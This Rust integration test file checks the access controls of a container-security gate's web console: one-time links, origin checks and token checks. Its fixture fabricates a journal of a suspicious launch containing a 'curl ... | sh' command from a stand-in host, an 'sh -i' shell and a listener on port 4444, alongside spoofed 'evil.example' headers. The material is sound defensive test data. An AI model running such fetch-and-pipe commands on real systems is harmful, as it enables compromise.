//! The console's doors: who gets in, from where, and what a page may do. Without a browser; `browser` has one.

use std::io::{Read, Write};
use std::net::{Ipv4Addr, TcpListener, TcpStream};
use std::path::Path;
use std::process::Command;

use jiff::{SignedDuration, Timestamp};
use serde_json::{Value, json};

use super::support::docker::{Docker, unique};
use super::support::engine::Engine;
use super::support::gate::{Gate, Options};
use super::support::{DEADLINE, eventually};

const POLICY: &str = r#"
version = 1
mode = "enforce"
[[principal]]
name = "ci"
match = [{ uid = 0 }]
profile = "site"
[fallback]
profile = "site"
[profile.site]
extends = "baseline"
[profile.site.reactions]
"privileged" = "approve"
"#;

/// A gate with a console, and a day behind it.
#[derive(Debug)]
pub(crate) struct Site {
    pub(crate) gate: Gate,
    pub(crate) docker: Docker,
    pub(crate) port: u16,
}

/// A container that only the records of the fixture know.
pub(crate) const STORY: &str = "5be0cd19137e2179fb1bd2a1d0f4c6e8a9b3c5d7e1f2031425364758697a8b9c";

impl Site {
    pub(crate) fn new(engine: &Engine) -> Self {
        // Free a moment ago, and nobody else here looks for one.
        let port = TcpListener::bind((Ipv4Addr::LOCALHOST, 0)).unwrap().local_addr().unwrap().port();
        let config = format!(
            "[engine]\naddress = 'unix://{{engine}}'\n[listen.local]\naddress = 'unix://{{dir}}/docker.sock'\n\
             [admin]\naddress = ['unix://{{dir}}/admin.sock', 'tcp://127.0.0.1:{port}']\n"
        );
        let options = Options { config: Some(&config), policy: Some(POLICY), ..Options::default() };
        let mut gate = Gate::start(engine.socket(), options);
        gate.terminate();
        tell_a_story(&gate.journal());
        gate.start_again();
        let docker = Docker::at(&gate.socket());
        Self { gate, docker, port }
    }

    pub(crate) fn address(&self) -> String {
        format!("http://127.0.0.1:{}", self.port)
    }

    /// What `tidewaiter console` prints.
    pub(crate) fn link(&self) -> String {
        let config = self.gate.dir().join("tidewaiter.toml");
        let output = Command::new(env!("CARGO_BIN_EXE_tidewaiter")).arg("console").arg("--config").arg(config).output();
        let output = output.unwrap();
        assert!(output.status.success(), "{output:?}");
        String::from_utf8(output.stdout).unwrap().trim().to_owned()
    }

    /// Sends a request to the port, and returns the whole answer.
    fn send(&self, request: &str, headers: &[&str], body: &str) -> String {
        let mut stream = TcpStream::connect((Ipv4Addr::LOCALHOST, self.port)).unwrap();
        stream.set_read_timeout(Some(DEADLINE)).unwrap();
        let length = format!("Content-Length: {}", body.len());
        let head = [&[request][..], headers, &[&length, "", body]].concat().join("\r\n");
        stream.write_all(head.as_bytes()).unwrap();
        let mut answer = String::new();
        stream.read_to_string(&mut answer).unwrap();
        answer
    }

    fn get(&self, path: &str, headers: &[&str]) -> String {
        let host = format!("Host: 127.0.0.1:{}", self.port);
        self.send(&format!("GET {path} HTTP/1.1"), &[&[host.as_str()], headers].concat(), "")
    }

    /// The `Cookie` header of a new session.
    fn session(&self) -> String {
        let link = self.link();
        let entered = self.get(link.strip_prefix(&self.address()).unwrap(), &[]);
        assert!(entered.starts_with("HTTP/1.1 303 "), "{entered}");
        let cookie = entered.lines().find_map(|line| line.strip_prefix("set-cookie: ")).unwrap();
        format!("Cookie: {}", cookie.split(';').next().unwrap())
    }
}

/// Writes a file of the journal as it would be before the current one, with what a watch tells of launches.
fn tell_a_story(journal: &Path) {
    let now = Timestamp::now();
    let ago = |micros: i64| (now - SignedDuration::from_micros(micros)).to_string();
    let launched = 95_000_000;
    let at = |micros: i64| ago(launched - micros);
    let timeline = json!([
        {"at": at(-412_000), "what": "create", "record": "01a20c4e-7d11-7c3e-9a5b-3f7d2c1e0b4a", "principal": "ci"},
        {"at": at(0), "what": "start", "record": "01a20c4e-7f22-7a10-8c41-77aa02e91b55", "principal": {"name": "ci"}},
        {"at": at(61_200), "what": "process", "pid": 41_822, "uid": 0, "path": "/bin/sh", "first": true,
            "argv": ["/bin/sh", "-c", "apk add curl && curl -fsSL https://get.example.net/x | sh"]},
        {"at": at(74_900), "what": "process", "pid": 41_830, "uid": 0, "path": "/sbin/apk", "argv": ["apk", "add", "curl"]},
        {"at": at(1_310_000), "what": "dns", "name": "dl-cdn.example.org", "process": {"pid": 41_830}},
        {"at": at(1_352_000), "what": "connect", "protocol": "tcp", "local": "172.17.0.2:44210", "remote": "192.0.2.17:443",
            "process": {"pid": 41_830, "path": "/sbin/apk"}, "first": true},
        {"at": at(6_040_000), "what": "process", "pid": 41_861, "uid": 0, "path": "/usr/bin/curl",
            "argv": ["curl", "-fsSL", "https://get.example.net/x"]},
        {"at": at(6_118_000), "what": "connect", "protocol": "tcp", "local": "172.17.0.2:51522", "remote": "198.51.100.4:443",
            "process": {"pid": 41_861, "path": "/usr/bin/curl"}},
        {"at": at(21_400_000), "what": "exec", "pid": 41_990, "uid": 0, "path": "/bin/sh", "argv": ["sh", "-i"], "out_of_band": true},
        {"at": at(22_050_000), "what": "listen", "protocol": "tcp", "local": "0.0.0.0:4444", "process": {"pid": 41_990}},
        {"at": at(38_000_000), "what": "die", "code": 137}
    ]);
    let about = json!({"v": 1, "host": "build-7", "container": {"id": STORY, "name": "nightly-build"},
        "image": {"reference": "docker.io/library/alpine:latest", "allowed": false}, "principal": {"name": "ci", "admin": false},
        "sensor": "kernel", "gaps": [], "records": ["01a20c4e-7d11-7c3e-9a5b-3f7d2c1e0b4a"], "timeline": timeline});
    let with = |more: Value| {
        let mut record = about.clone();
        record.as_object_mut().unwrap().extend(more.as_object().unwrap().clone());
        record
    };
    let attack = json!({"version": "18.1", "techniques": [
        {"id": "T1610", "name": "Deploy Container", "tactics": ["Execution"]},
        {"id": "T1611", "name": "Escape to Host", "tactics": ["Privilege Escalation"]}]});
    let records = [
        with(json!({"id": "l-1", "time": ago(50_000_000), "kind": "launch", "event": "closed"})),
        with(json!({"id": "f-1", "time": ago(90_000_000), "kind": "finding", "event": "open", "finding": "f-1",
            "check": "launch.an0693", "title": "Risky launch by a principal that is no admin", "score": 6, "severity": "high",
            "analytic": {"uid": "AN0693", "strategy": "DET0249"}, "attack": attack, "reasons": [
                {"check": "image.latest", "field": "Image", "detail": "docker.io/library/alpine:latest", "risk": 1},
                {"check": "image.not-allowed", "field": "Image", "detail": "docker.io/library/alpine", "risk": 1},
                {"check": "principal.non-admin", "field": "", "detail": "ci", "risk": 1},
                {"check": "mount.sensitive", "field": "HostConfig.Binds[0]", "detail": "/etc", "risk": 3}]})),
        with(json!({"id": "f-2", "time": ago(73_000_000), "kind": "finding", "event": "open", "finding": "f-2",
            "check": "exec.out-of-band", "title": "A process that no exec explains: sh -i", "score": 3, "severity": "critical",
            "attack": attack, "reasons": [{"check": "exec.out-of-band", "field": "", "detail": "/bin/sh", "risk": 3}]})),
        json!({"v": 1, "id": "f-3", "time": ago(9 * 3_600_000_000), "host": "build-7", "kind": "finding", "event": "close",
            "finding": "f-3", "check": "sensor.gap", "title": "Events of the kernel were lost", "score": 1, "severity": "low",
            "container": {}, "principal": {}, "reasons": [], "gaps": [{"lost": 12}]}),
    ];
    let lines = records.iter().enumerate().map(|(at, record)| {
        let line = record.to_string();
        // The members that every line begins with.
        format!("{{\"v\":1,\"seq\":{},{}\n", at + 1, line.strip_prefix('{').unwrap())
    });
    std::fs::write(format!("{}.{:020}", journal.display(), 0), lines.collect::<String>()).unwrap();
}

fn status(answer: &str) -> &str {
    answer.split(' ').nth(1).unwrap()
}

#[test]
fn nobody_sees_the_console_without_a_link_and_it_opens_once() {
    let engine = Engine::shared();
    let site = Site::new(&engine);
    for path in ["/console", "/console/approvals", "/console/live", "/console/launches/x", "/console/live.js"] {
        assert_eq!(status(&site.get(path, &[])), "401", "{path}");
        assert_eq!(status(&site.get(path, &["Cookie: tidewaiter=00.00"])), "401", "{path}");
    }
    assert_eq!(status(&site.get("/metrics", &[])), "200", "for whoever scrapes: no label is a caller's");
    // The command line's part is on the socket only.
    assert_eq!(status(&site.get("/approvals", &[])), "404");
    let post = |path: &str| site.send(&format!("POST {path} HTTP/1.1"), &["Host: localhost"], "");
    assert_eq!((status(&post("/link")), status(&post("/approvals/7f3k000000/approve"))), ("404", "404"));

    let link = site.link();
    let path = link.strip_prefix(&site.address()).unwrap();
    let entered = site.get(path, &[]);
    assert!(entered.starts_with("HTTP/1.1 303 ") && entered.contains("HttpOnly; SameSite=Strict"), "{entered}");
    assert_eq!(status(&site.get(path, &[])), "401", "a link is good once");
    let page = site.get("/console", &[&site.session()]);
    assert!(page.contains("You are root (uid 0)"), "{page}");
    assert!(page.contains("content-security-policy: default-src 'none';"), "{page}");
    let key =
        eventually("the key", || Some(site.gate.journal().parent()?.join("keys/console.key")).filter(|p| p.exists()));
    let mode = std::os::unix::fs::PermissionsExt::mode(&key.metadata().unwrap().permissions());
    assert_eq!(mode & 0o777, 0o600);
}

#[test]
fn another_page_gets_nothing_and_does_nothing() {
    let engine = Engine::shared();
    let site = Site::new(&engine);
    let cookie = site.session();
    let name = unique("asked");
    let create = ["create", "--name", &name, "--privileged", "busybox:1.0", "true"];
    assert!(!site.docker.run(&create).status.success());
    // A name that was made to lead here.
    let rebound = site.send("GET /console HTTP/1.1", &["Host: evil.example", &cookie], "");
    assert_eq!(status(&rebound), "421");
    let page = site.get("/console/approvals", &[&cookie]);
    let between =
        |before: &str, after: &str| page.split_once(before).unwrap().1.split_once(after).unwrap().0.to_owned();
    let id = between("action=\"/console/approvals/", "\"");
    let token = between("name=\"token\" value=\"", "\"");
    let host = format!("Host: 127.0.0.1:{}", site.port);
    let ours = format!("Origin: {}", site.address());
    let decide = |origin: &str, cookie: &str, token: &str| {
        let form = format!("token={token}&word=approve&valid=900");
        let kind = "Content-Type: application/x-www-form-urlencoded";
        site.send(&format!("POST /console/approvals/{id} HTTP/1.1"), &[&host, kind, origin, cookie], &form)
    };
    for (origin, cookie, token, wanted) in [
        ("Origin: http://evil.example", cookie.as_str(), token.as_str(), "403"),
        ("Origin: http://127.0.0.1:1", &cookie, &token, "403"),
        ("Origin: null", &cookie, &token, "403"),
        (&ours, "X: y", &token, "401"),
        (&ours, &cookie, "00.00", "403"),
        (&ours, &cookie, "", "403"),
    ] {
        assert_eq!(status(&decide(origin, cookie, token)), wanted, "{origin} {cookie} {token}");
    }
    assert!(!site.docker.run(&create).status.success(), "nothing was decided");
    assert_eq!(status(&decide(&ours, &cookie, &token)), "303");
    site.docker.ok(&create);
    site.docker.ok(&["rm", &name]);
    let word = eventually("the word", || site.gate.records().into_iter().find(|record| record["kind"] == "approval"));
    assert_eq!((&word["via"], &word["by"]["uid"], &word["event"]), (&"console".into(), &0.into(), &"approve".into()));
    // Through a tunnel to the socket, where the kernel says who is there, a browser has the pages, and not the command line.
    let socket = site.gate.dir().join("admin.sock");
    let ask =
        |request: &str| super::support::raw::ask(&socket, &format!("{request}Host: localhost:8080\r\n\r\n")).unwrap();
    assert_eq!(ask("GET /console HTTP/1.1\r\n").status(), 200);
    assert_eq!(ask("GET /approvals HTTP/1.1\r\n").status(), 200);
    assert_eq!(ask("GET /approvals HTTP/1.1\r\nSec-Fetch-Site: none\r\n").status(), 404);
    let forged = "POST /link HTTP/1.1\r\nOrigin: http://localhost:8080\r\nContent-Length: 0\r\n";
    assert_eq!(ask(forged).status(), 404);
}

#[test]
fn a_page_that_is_looked_at_is_told_of_changes_and_does_not_hold_the_gate() {
    let engine = Engine::shared();
    let mut site = Site::new(&engine);
    let cookie = site.session();
    let mut page = TcpStream::connect((Ipv4Addr::LOCALHOST, site.port)).unwrap();
    page.set_read_timeout(Some(DEADLINE)).unwrap();
    let request = format!("GET /console/live HTTP/1.1\r\nHost: 127.0.0.1:{}\r\n{cookie}\r\n\r\n", site.port);
    page.write_all(request.as_bytes()).unwrap();
    let mut told = Vec::new();
    let mut hear = |wanted: &str| {
        let mut bytes = [0; 4096];
        while !String::from_utf8_lossy(&told).contains(wanted) {
            let read = page.read(&mut bytes).unwrap();
            assert_ne!(read, 0, "no {wanted} in {}", String::from_utf8_lossy(&told));
            told.extend_from_slice(&bytes[..read]);
        }
    };
    hear("content-type: text/event-stream");
    hear("retry: ");
    site.docker.ok(&["ps"]);
    hear("event: change");
    // Well before streams are cut: this is none that anybody waits for.
    let asked = tokio::time::Instant::now();
    assert!(site.gate.terminate().success());
    assert!(asked.elapsed() < std::time::Duration::from_secs(8), "{:?}", asked.elapsed());
    assert!(!site.gate.log().contains("are cut"), "{}", site.gate.log());
}
